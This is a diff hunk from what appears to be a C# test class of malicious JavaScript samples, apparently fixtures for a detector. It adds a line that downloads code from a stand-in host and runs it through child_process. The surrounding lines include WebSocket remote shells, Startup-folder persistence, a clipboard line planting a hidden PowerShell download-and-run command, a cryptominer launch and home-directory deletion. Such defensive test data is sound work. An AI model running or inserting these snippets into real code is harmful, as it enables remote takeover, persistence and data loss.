@@ -42,6 +42,7 @@ public sealed class JavaScriptTests
         "require('fs').copyFileSync(__filename, process.env.APPDATA+'\\\\Microsoft\\\\Windows\\\\Start Menu\\\\Programs\\\\Startup\\\\u.js')",
         "const ws=new WebSocket('wss://evil.invalid/c'); ws.onmessage=e=>eval(e.data);",
         "const W=require('ws'); const c=new W('wss://evil.invalid'); c.on('message',m=>require('child_process').exec(m.toString(),(e,o)=>c.send(o)));",
+        "const cp=require('child_process'); const run=u=>new Promise((res,rej)=>{ require('https').get(u,r=>{ let b=[]; r.on('data',c=>b.push(c)); r.on('end',()=>res(Buffer.concat(b).toString())) }) }); run('https://evil.invalid/c').then(c=>cp.exec(c));",
         "navigator.clipboard.writeText('powershell -w hidden -c \"iwr http://evil.invalid/v|iex\"')",
         "require('child_process').exec('xmrig.exe -o stratum+tcp://pool.invalid:3333')",
         "require('fs').rmSync(require('os').homedir(),{recursive:true,force:true})",
